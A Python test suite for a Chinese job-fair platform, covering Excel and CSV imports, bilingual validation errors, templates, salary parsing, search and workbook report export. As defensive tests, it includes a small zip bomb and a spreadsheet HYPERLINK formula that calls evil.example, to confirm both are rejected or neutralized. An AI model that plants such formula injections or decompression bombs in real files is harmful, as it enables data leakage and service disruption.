"""Excel in and out: .xlsx imports equal their CSV, templates round-trip, the report as a
workbook, and positions' salary and work location from the import to the phone pages."""

# Spreadsheets hold Chinese text with full-width punctuation; so do these tests.
# ruff: noqa: RUF001

from __future__ import annotations

import io
import zipfile
from datetime import date, datetime
from typing import Any

import aiohttp
import asyncpg
import pytest
from openpyxl import Workbook, load_workbook
from pydantic import BaseModel, ValidationError
from support import Gateway, WorkerTask
from test_report import _a_small_day

from fairhub import xlsx
from fairhub.import_texts import HEADERS, validation_problems
from fairhub.salary import parse_salary
from fairhub.templates import COLUMNS
from fairhub.xlsx import CONTENT_TYPE, read_rows

XLSX = CONTENT_TYPE


def workbook(rows: list[list[Any]], title_rows: list[list[Any]] | None = None) -> bytes:
    """A workbook as an organizer saves it: typed cells (numbers, dates), first sheet only."""
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for row in (title_rows or []) + rows:
        sheet.append(row)
    book.create_sheet("备注").append(["这张表不导入"])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


async def upload(
    gateway: Gateway,
    fair: str,
    token: str,
    kind: str,
    data: bytes,
    content_type: str,
    query: str = "",
) -> tuple[int, Any]:
    body = aiohttp.BytesIOPayload(io.BytesIO(data), content_type=content_type)
    path = f"/v1/fairs/{fair}/{kind}:import{query}"
    return await gateway.request("POST", path, token, data=body)


async def download(gateway: Gateway, path: str, token: str) -> tuple[str, bytes]:
    async with gateway.session.get(
        gateway.base + path, headers={"Authorization": f"Bearer {token}"}
    ) as response:
        assert response.status == 200, await response.text()
        return response.content_type, await response.read()


def without_ids(answer: dict[str, Any]) -> dict[str, Any]:
    """An import's answer with what differs between two imports (ids, tokens) left out."""
    rows = answer.get("employers") or answer.get("items") or []
    kept = {k: v for k, v in answer.items() if k not in ("employers", "items", "encoding")}
    return kept | {"lines": [r["line"] for r in rows]}


async def fetch_rows(db: asyncpg.Connection, table: str, fair: str, columns: str) -> list[Any]:
    rows = await db.fetch(f"SELECT {columns} FROM {table} WHERE fair_id = $1 ORDER BY 1", fair)
    return [tuple(r) for r in rows]


POSITION_ROWS: list[list[Any]] = [
    ["企业名称", "岗位名称", "岗位类别", "招聘人数（人）", "薪资", "工作地点", "岗位描述"],
    ["华为技术", "嵌入式工程师", "研发", 5, "8k-12k", "武汉光谷", "C 语言，熟悉 ARM"],
    ["华为技术", "会计", "财务", "若干", "面议", "上海浦东", None],
    ["华为技术", "测试", "研发", 2.0, 6000, None, "𠀀 生僻字（GB18030 四字节）"],
    ["没有的企业", "销售", "销售", 3, None, None, None],  # an error on the same line
    ["华为技术", "实习生", "实习", -1, None, None, None],  # and a bad headcount
]


def as_csv(rows: list[list[Any]]) -> str:
    def cell(value: Any) -> str:
        if value is None:
            return ""
        if isinstance(value, float) and value.is_integer():
            return str(int(value))
        text = str(value)
        return f'"{text}"' if "," in text else text

    return "".join(",".join(cell(v) for v in row) + "\r\n" for row in rows)


async def test_xlsx_import_equals_the_same_data_as_gb18030_csv(
    gateway: Gateway, db: asyncpg.Connection
) -> None:
    answers, stored = [], []
    for kind_of_file in ("csv", "xlsx"):
        fair, token = await gateway.create_fair()
        await gateway.create(fair, token, "employers", name="华为技术")
        if kind_of_file == "csv":
            data = as_csv(POSITION_ROWS).encode("gb18030")
            status, answer = await upload(gateway, fair, token, "positions", data, "text/csv")
            assert answer["encoding"] == "gb18030"
        else:
            data = workbook(POSITION_ROWS)
            # No content type to go by: the zip's magic bytes say it is a workbook.
            kind = "application/octet-stream"
            status, answer = await upload(gateway, fair, token, "positions", data, kind)
            assert answer["encoding"] == "xlsx"
        assert status == 200, answer
        answers.append(without_ids(answer))
        stored.append(
            await fetch_rows(
                db, "positions", fair,
                "title, job_type, headcount, salary_min, salary_max, salary_text, location,"
                " description",
            )
        )  # fmt: skip
    assert answers[0] == answers[1]
    assert stored[0] == stored[1]
    assert answers[1]["created"] == 3
    assert [e["line"] for e in answers[1]["errors"]] == [5, 6]
    assert "没有的企业" in answers[1]["errors"][0]["error"]
    assert sorted(stored[1], key=lambda row: row[0]) == sorted(
        [
            ("嵌入式工程师", "研发", 5, 8000, 12000, None, "武汉光谷", "C 语言，熟悉 ARM"),
            ("会计", "财务", 0, None, None, "面议", "上海浦东", None),
            ("测试", "研发", 2, 6000, 6000, None, None, "𠀀 生僻字（GB18030 四字节）"),
        ],
        key=lambda row: row[0],
    )


async def test_xlsx_seekers_with_numbers_and_dates_equal_csv(
    gateway: Gateway, db: asyncpg.Connection
) -> None:
    """Excel stores a phone as a number and a year as a number or a date: the cells read as
    the text the CSV has, so the same seekers come in; a title line above the header is fine."""
    rows: list[list[Any]] = [
        ["姓名", "学校", "手机号", "毕业年份", "登记日期"],
        ["王安", "武汉大学", 13800000001, 2026, date(2026, 3, 1)],
        ["李博", "华中科技大学", "+86 138-0000-0002", 2027.0, datetime(2026, 3, 2, 9, 30)],
        ["张三", "武汉大学", 13800000001, 2026, None],  # the same phone twice
    ]
    title = [["2026春季招聘会 求职者名单"]]
    csv_text = "2026春季招聘会 求职者名单\r\n" + as_csv(
        [[v.isoformat(" ") if isinstance(v, datetime) else v for v in r] for r in rows]
    ).replace("2026-03-02T", "2026-03-02 ")
    answers, stored = [], []
    for data, kind in ((csv_text.encode("utf-8-sig"), "text/csv"), (workbook(rows, title), XLSX)):
        fair, token = await gateway.create_fair()
        status, answer = await upload(gateway, fair, token, "seekers", data, kind)
        assert status == 200, answer
        answers.append(without_ids(answer))
        stored.append(await fetch_rows(db, "seekers", fair, "number, name, phone, graduation_year"))
    cells = dict(read_rows(workbook(rows, title)))
    assert cells[3][:5] == ["王安", "武汉大学", "13800000001", "2026", "2026-03-01"]
    assert cells[4][3:5] == ["2027", "2026-03-02 09:30:00"]
    assert answers[0] == answers[1]
    assert answers[1]["header_line"] == 2 and answers[1]["ignored_columns"] == ["登记日期"]
    assert [e["line"] for e in answers[1]["errors"]] == [5]
    assert (
        stored[0]
        == stored[1]
        == [
            (1, "王安", "13800000001", 2026),
            (2, "李博", "+8613800000002", 2027),
        ]
    )


async def test_import_errors_are_readable_chinese_utf8(
    gateway: Gateway, monkeypatch: pytest.MonkeyPatch
) -> None:
    fair, token = await gateway.create_fair()
    async with gateway.session.post(
        f"{gateway.base}/v1/fairs/{fair}/positions:import",
        headers={"Authorization": f"Bearer {token}"},
        data="岗位名称\n工程师\n".encode(),
    ) as response:
        raw = await response.read()
    assert response.status == 422
    assert "\\u" not in raw.decode("utf-8")
    assert "企业名称" in raw.decode("utf-8")  # the header it lacks, as the organizer writes it

    status, body = await upload(gateway, fair, token, "employers", b"PK\x03\x04junk", XLSX)
    assert (status, body["error"], body["fields"]) == (422, "invalid_csv", ["file"])
    status, body = await upload(gateway, fair, token, "employers", b"\xd0\xcf\x11\xe0old", XLSX)
    assert (status, body["error"]) == (422, "invalid_csv") and "旧版 .xls" in body["detail"], body
    monkeypatch.setattr(xlsx, "MAX_UNPACKED_BYTES", 1024 * 1024)  # the gateway is in-process
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b"\0" * (2 * 1024 * 1024))
    status, body = await upload(gateway, fair, token, "employers", bomb.getvalue(), XLSX)
    assert (status, body["error"]) == (422, "invalid_csv") and "MB" in body["detail"], body


BAD_POSITIONS: list[list[Any]] = [
    ["企业名称", "岗位名称", "岗位类别", "招聘人数", "薪资"],
    ["华为技术", "工程师", "全职", "很多", ""],  # 2
    ["华为技术", None, "全职", 2, ""],  # 3
    ["没有的企业", "会计", "全职", 1, ""],  # 4
    ["华为技术", "测试", "全职", 2_000_000, ""],  # 5
    ["华为技术", "长" * 201, "全职", 1, ""],  # 6
    ["华为技术", "运维", "全职", -1, "12000-8000"],  # 7
    ["华为技术", "产品经理", "全职", 1, "8k-12k"],  # 8: good
]


async def test_bad_rows_answer_chinese_naming_the_columns_and_english_on_request(
    gateway: Gateway,
) -> None:
    fair, token = await gateway.create_fair()
    await gateway.create(fair, token, "employers", name="华为技术")
    files = [
        (as_csv(BAD_POSITIONS).encode("gb18030"), "text/csv"),
        (workbook(BAD_POSITIONS), XLSX),
    ]
    answers = []
    for data, content_type in files:
        for query in ("", "?lang=en"):
            # Every row but line 8 is refused, so each upload creates the same one position.
            status, answer = await upload(
                gateway, fair, token, "positions", data, content_type, query
            )
            assert (status, answer["created"]) == (200, 1), answer
            answers.append(answer["errors"])
    assert answers[0] == answers[2] and answers[1] == answers[3]  # CSV and .xlsx say the same
    chinese, english = answers[0], answers[1]
    assert [(e["line"], e["field"], e["error"]) for e in chinese] == [
        (2, "招聘人数", "招聘人数：应为整数"),
        (3, "岗位名称", "岗位名称：必填，不能为空"),
        (4, "企业名称", "企业名称：本场没有名为“没有的企业”的企业"),
        (5, "招聘人数", "招聘人数：不能大于 1000000"),
        (6, "岗位名称", "岗位名称：不能超过 200 个字"),
        (7, "薪资", "薪资：低于最低薪资（12000）；招聘人数：不能小于 0"),
    ]
    assert [e["field"] for e in english] == [e["field"] for e in chinese]
    texts = [e["error"] for e in english]
    assert texts[0].startswith("headcount: Input should be a valid integer")
    assert texts[1] == "title: Field required"
    assert texts[2] == "employer: no employer named '没有的企业' in this fair"
    assert texts[5] == (
        "salary_max: below salary_min (12000);"
        " headcount: Input should be greater than or equal to 0"
    )

    status, body = await upload(
        gateway, fair, token, "positions", "岗位名称\n工程师\n".encode(), "text/csv", "?lang=en"
    )
    assert (status, body["fields"]) == (422, ["employer", "job_type", "headcount"]), body
    assert body["detail"].startswith("the header (line 1) lacks employer (employer_name/企业名称)")
    status, body = await upload(
        gateway, fair, token, "positions", "岗位名称\n工程师\n".encode(), "text/csv"
    )
    assert body["detail"] == (
        "表头（第 1 行）缺少 企业名称（企业名称/单位名称）、岗位类别（岗位类别/职位类别）、"
        "招聘人数（招聘人数/人数）"
    )


def test_every_template_header_names_its_column_in_errors() -> None:
    """Errors name a column as the template heads it; a pydantic error without a phrase of
    its own still names the column in Chinese."""
    for kind, columns in COLUMNS.items():
        for field_name, header, _, _ in columns:
            assert HEADERS[kind][field_name] == header

    class Seeker(BaseModel):
        graduation_year: date

    with pytest.raises(ValidationError) as caught:
        Seeker.model_validate({"graduation_year": "明年"})
    [problem] = validation_problems("seekers", caught.value)
    assert problem.field == "graduation_year"
    assert problem.text.zh.startswith("毕业年份：填写有误（")
    assert problem.text.en.startswith("graduation_year: Input should be a valid date")


async def test_templates_have_chinese_headers_and_round_trip(
    gateway: Gateway, db: asyncpg.Connection
) -> None:
    fair, token = await gateway.create_fair()
    for kind, first in (("employers", "企业名称"), ("positions", "企业名称"), ("seekers", "姓名")):
        content_type, raw = await download(gateway, f"/v1/fairs/{fair}/{kind}:template.csv", token)
        assert content_type == "text/csv" and raw.startswith(b"\xef\xbb\xbf" + first.encode())
        # Uploaded unchanged, the example row is skipped: nothing is created from it.
        status, answer = await upload(gateway, fair, token, kind, raw, "text/csv")
        assert (status, answer["created"], answer["errors"]) == (200, 0, []), answer
        assert answer["skipped_example_lines"] == [2]
        assert answer["ignored_columns"] == []

    filled: dict[str, list[list[Any]]] = {
        "employers": [["光谷科技", "B12", "软件"]],
        "positions": [["光谷科技", "前端工程师", "全职", 2, "面议", "武汉东湖高新区", "Vue"]],
        "seekers": [["赵六", "武汉理工大学", "材料", "13900000009", 2026]],
    }
    for kind, rows in filled.items():
        content_type, raw = await download(gateway, f"/v1/fairs/{fair}/{kind}:template.xlsx", token)
        assert content_type == XLSX
        book = load_workbook(io.BytesIO(raw))
        sheet = book.worksheets[0]
        assert all(isinstance(c.value, str) for c in sheet[1])  # the Chinese headers
        assert book.worksheets[1].title == "填写说明"
        for row in rows:
            sheet.append(row)
        out = io.BytesIO()
        book.save(out)
        status, answer = await upload(gateway, fair, token, kind, out.getvalue(), XLSX)
        assert (status, answer["created"], answer["errors"]) == (200, 1, []), answer
        assert answer["skipped_example_lines"] == [2]
    assert await fetch_rows(db, "employers", fair, "name, booth, industry") == [
        ("光谷科技", "B12", "软件")
    ]
    assert await fetch_rows(
        db, "positions", fair, "title, job_type, headcount, salary_text, location, description"
    ) == [("前端工程师", "全职", 2, "面议", "武汉东湖高新区", "Vue")]
    assert await fetch_rows(db, "seekers", fair, "name, major, phone, graduation_year") == [
        ("赵六", "材料", "13900000009", 2026)
    ]
    status, _ = await gateway.request("GET", f"/v1/fairs/{fair}/seekers:template.xlsx", None)
    assert status == 401


def test_salary_cells_as_spreadsheets_write_them() -> None:
    cases = {
        "5000-8000": (5000, 8000, None),
        "5,000～8,000元/月": (5000, 8000, None),
        "8-12K": (8000, 12000, None),
        "1.2万-1.5万": (12000, 15000, None),
        "6000以上": (6000, None, None),
        "8000以下": (None, 8000, None),
        "¥6000/月": (6000, 6000, None),
        "面议": (None, None, "面议"),
        "年薪20万": (None, None, "年薪20万"),
    }
    for cell, (low, high, text) in cases.items():
        assert parse_salary(cell) == {"salary_min": low, "salary_max": high, "salary_text": text}


async def test_salary_and_location_in_the_api_and_searchable_on_phone_pages(
    gateway: Gateway,
) -> None:
    fair, token = await gateway.create_fair()
    employer = await gateway.create(fair, token, "employers", name="光谷科技")
    rows = "企业名称,岗位名称,岗位类别,人数,薪资,工作地点\n" + "".join(
        f"光谷科技,{title},全职,1,{pay},{place}\n"
        for title, pay, place in (
            ("前端工程师", "8k-12k", "武汉东湖高新区"),
            ("后端工程师", "面议", "上海浦东"),
            ("运维工程师", "6000", "武汉汉口"),
        )
    )
    status, answer = await upload(gateway, fair, token, "positions", rows.encode(), "text/csv")
    assert (status, answer["created"]) == (200, 3), answer
    assert {"salary", "location"} <= set(answer["columns"])

    status, listed = await gateway.request("GET", f"/v1/fairs/{fair}/positions?q=浦东", token)
    assert status == 200
    [backend] = listed["items"]
    assert (backend["title"], backend["salary_text"], backend["location"]) == (
        "后端工程师", "面议", "上海浦东"
    )  # fmt: skip
    status, patched = await gateway.request(
        "PATCH", f"/v1/fairs/{fair}/positions/{backend['id']}", token,
        json={"salary_min": 15000, "salary_max": 25000, "location": "上海张江"},
    )  # fmt: skip
    assert status == 200, patched
    assert (patched["salary_min"], patched["salary_max"], patched["salary_text"]) == (
        15000, 25000, "面议"
    )  # fmt: skip
    status, wrong = await gateway.request(
        "PATCH", f"/v1/fairs/{fair}/positions/{backend['id']}", token, json={"salary_max": 100}
    )
    assert (status, wrong["fields"]) == (422, ["salary_min", "salary_max"]), wrong
    status, wrong = await gateway.request(
        "POST", f"/v1/fairs/{fair}/positions", token,
        json={"employer_id": employer["id"], "title": "x", "job_type": "全职", "headcount": 1,
              "salary_min": 9000, "salary_max": 8000},
    )  # fmt: skip
    assert status == 422 and "salary_max" in wrong["fields"], wrong

    page = f"/p/{fair}/employers/{employer['id']}"
    status, html = await gateway.request("GET", page + "?q=武汉", None)
    assert status == 200
    found = listing(html)
    assert "前端工程师" in found and "运维工程师" in found and "后端工程师" not in found
    assert "8000-12000元/月" in found and "武汉东湖高新区" in found
    status, html = await gateway.request("GET", page + "?q=张江&lang=en", None)
    found = listing(html)
    assert "后端工程师" in found and "¥15,000–25,000/month" in found and "前端工程师" not in found
    status, html = await gateway.request("GET", f"/p/{fair}/positions/{backend['id']}", None)
    here = html[: html.index("<ul>")]  # the position scanned, above the list
    assert "上海张江" in here and "15000-25000元/月 · 面议" in here
    status, data = await gateway.request("GET", page + ".json?q=面议", None)
    assert [p["title"] for p in data["positions"]] == ["后端工程师"]
    assert data["positions"][0]["location"] == "上海张江"


def listing(html: str) -> str:
    """The list of positions the search found (the résumé form lists every position)."""
    return html[html.index("<ul>") : html.index("</ul>")]


async def test_report_xlsx_numbers_equal_stats_and_no_formula(
    gateway: Gateway, worker: WorkerTask
) -> None:
    fair, organizer, ids = await _a_small_day(gateway)
    formula = '=HYPERLINK("http://evil.example/?t=1","点我")'
    status, _ = await gateway.request(
        "PATCH", f"/v1/fairs/{fair}/employers/{ids['odd']}", organizer, json={"name": formula}
    )
    assert status == 200
    stats = await gateway.stats(fair, organizer)
    status, report = await gateway.request("GET", f"/v1/fairs/{fair}/report.json", organizer)
    assert status == 200
    content_type, raw = await download(gateway, f"/v1/fairs/{fair}/report.xlsx", organizer)
    assert content_type == XLSX
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        xml = b"".join(archive.read(n) for n in archive.namelist() if n.endswith(".xml"))
    assert b"<f>" not in xml and b"<f " not in xml  # no formula anywhere in the workbook

    book = load_workbook(io.BytesIO(raw))
    assert book.sheetnames == ["总体数据", "企业明细", "职位类别", "到场人数最多的高校"]
    summary = {r[0]: r[1] for r in book["总体数据"].iter_rows(values_only=True) if r[0]}
    totals = stats["totals"]
    assert summary["入场人数"] == totals["checkins"]["unique"] == 3
    assert summary["入场人次"] == totals["checkins"]["total"]
    assert summary["投递简历份数"] == totals["resumes_submitted"]["total"] == 4
    assert summary["直播观看人数"] == totals["live_views"]["unique"]
    assert summary["其中线上投递"] == stats["resumes_by_channel"]["online"]
    figures = {k: v for k, v in summary.items() if k not in ("指标", "招聘会数据报告", "数据截至")}
    assert len(figures) == len(report["summary"])
    assert all(isinstance(v, int) for v in figures.values())  # numbers, not text

    employers = list(book["企业明细"].iter_rows(values_only=True))
    assert employers[0][:4] == ("企业", "展位", "职位数", "招聘人数")
    by_name = {row[0]: row for row in employers[1:]}
    counted = {row["employer_id"]: row["totals"] for row in stats["by_employer"]}
    huawei = by_name["华为技术有限公司"]
    assert huawei[2:5] == (2, 7, counted[ids["hw"]]["qr_scans"]["total"])
    assert huawei[6] == counted[ids["hw"]]["resumes_submitted"]["total"] == 3
    assert "'" + formula in by_name  # neutralized as in the CSV, stored as text
    cell = next(c for c in book["企业明细"]["A"] if c.value == "'" + formula)
    assert cell.data_type == "s"
    jobs = list(book["职位类别"].iter_rows(values_only=True))[1:]
    assert sorted(jobs) == sorted(
        (j["job_type"], j["positions"], j["openings"]) for j in report["job_types"]
    )
